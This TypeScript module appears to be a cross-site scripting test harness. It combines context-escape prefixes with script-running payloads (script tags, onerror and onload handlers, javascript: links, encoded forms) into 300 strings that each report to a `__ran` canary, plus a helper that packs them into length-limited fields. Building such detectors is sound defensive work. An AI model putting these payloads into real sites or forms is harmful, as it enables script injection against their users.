/**
 * Strings that run a script where a page, a mail or a file takes them for more than text. Each says its number to
 * `__ran`, so a page that has such a function knows which of them ran. Made of ways to get out of what stands around a
 * field, and of what runs once it is out.
 */

const WAYS_OUT = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "-->",
  "]]>",
  "`",
  "\\",
  "\\u0022>",
  "}}",
];

const RUNNERS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<a href=javascript:${call} id=a>a`,
  (call) => `<b style=animation:a onanimationend=${call}>`,
  (call) => `<ScRiPt\n>${call}</sCrIpT >`.replace("\n", "/"),
  (call) => `<!--><img src=x onerror=${call}>`,
  (call) => ` autofocus onfocus=${call} a=`,
  (call) => ` onmouseover=${call} `,
  (call) => `javascript:${call}`,
  (call) => `[a](javascript:${call})`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `;${call};//`,
];

/** Three hundred of them, each short enough to stand beside two others in a name. */
export const SCRIPTS: readonly string[] = WAYS_OUT.flatMap((out, row) =>
  RUNNERS.map((runner, column) => out + runner(`__ran(${row * RUNNERS.length + column})`)),
);

/** All of them, as many as fit into a field of this length, and one field after the other. */
export function packed(longest: number, scripts: readonly string[] = SCRIPTS): string[] {
  const fields = [""];
  for (const script of scripts) {
    const field = fields.at(-1) ?? "";
    if (field.length + 1 + script.length > longest) fields.push(script);
    else fields[fields.length - 1] = field === "" ? script : `${field} ${script}`;
  }
  return fields;
}
